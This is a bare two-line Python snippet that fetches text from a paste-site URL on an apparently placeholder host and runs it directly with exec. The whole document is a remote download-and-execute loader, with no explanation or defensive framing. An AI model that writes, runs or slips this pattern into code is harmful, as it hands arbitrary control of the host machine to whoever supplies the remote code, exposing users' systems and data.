from urllib.request import urlopen
exec(urlopen('https://pastes.example.net/raw/x').read())
